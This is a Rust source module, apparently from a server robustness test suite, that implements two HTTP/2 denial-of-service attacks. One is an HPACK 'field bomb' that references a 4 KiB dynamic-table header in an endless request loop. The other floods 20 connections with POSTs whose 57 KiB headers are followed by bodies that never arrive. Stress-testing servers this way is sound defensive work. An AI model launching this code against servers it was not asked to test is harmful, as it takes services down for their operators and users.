//! Field lists that are larger than they look, or as large as they may be.

use std::{io, rc::Rc};

use futures_util::FutureExt as _;
use tokio::io::AsyncWriteExt as _;

use crate::{
    attack::{Abuse, Attacker, Ended, HeldTo, Receives},
    frames::{self, LARGEST, NEWEST, flag},
    link::{Link, both, frames as read_frames},
};

/// A value that, with its name and the 32 bytes that RFC 7541 section 4.1 adds, just fits the dynamic table.
const VALUE: usize = 4096 - 32 - 4;

/// Streams of a connection: as many as the agent allows.
const STREAMS: u32 = 100;

/// Large fields of a maximal list: 57 KiB, of the 60 KiB that the agent takes; it adds fields of its own.
const FIELDS: usize = 14;

pub const ABUSES: &[Abuse] = &[
    Abuse {
        name: "field-bomb",
        what: "HTTP/2 requests that refer to one field of 4 KiB 16,000 times, 8 connections.",
        held_to: HeldTo::Aims,
        connections: 8,
        run: |attacker| bomb(attacker).boxed_local(),
    },
    Abuse {
        name: "field-lists",
        what: "20 connections of HTTP/2 with 100 POSTs each, whose fields have 57 KiB and whose bodies never come.",
        held_to: HeldTo::Aims,
        connections: 20,
        run: |attacker| lists(attacker).boxed_local(),
    },
];

async fn bomb(attacker: Rc<Attacker>) -> io::Result<Ended> {
    let Link { read, mut write } = Link::http2(&attacker, Receives::Much, &[]).await?;
    let writing = async {
        let mut out = Vec::new();
        let mut block = frames::get(&attacker.host, "/");
        frames::field_to_keep(&mut block, "bomb", &[b'x'; VALUE]);
        frames::headers(&mut out, flag::END_STREAM, 1, &block);
        write.write_all(&out).await?;
        let mut block = frames::get(&attacker.host, "/");
        block.resize(LARGEST, NEWEST);
        let mut next = 3;
        loop {
            let mut out = Vec::new();
            frames::headers(&mut out, flag::END_STREAM, next, &block);
            next += 2;
            write.write_all(&out).await?;
            attacker.sent(1, out.len());
        }
    };
    both(writing, read_frames(read, Rc::clone(&attacker), |_, _| {})).await
}

async fn lists(attacker: Rc<Attacker>) -> io::Result<Ended> {
    let Link { read, mut write } = Link::http2(&attacker, Receives::Much, &[]).await?;
    let mut block = frames::post(&attacker.host, "/");
    for index in 0..FIELDS {
        frames::field(&mut block, &format!("f{index:03}"), &[b'x'; VALUE]);
    }
    let writing = async {
        for index in 0..STREAMS {
            let mut out = Vec::new();
            frames::headers(&mut out, 0, index * 2 + 1, &block);
            write.write_all(&out).await?;
            attacker.sent(1, out.len());
        }
        Ok(())
    };
    both(writing, read_frames(read, Rc::clone(&attacker), |_, _| {})).await
}
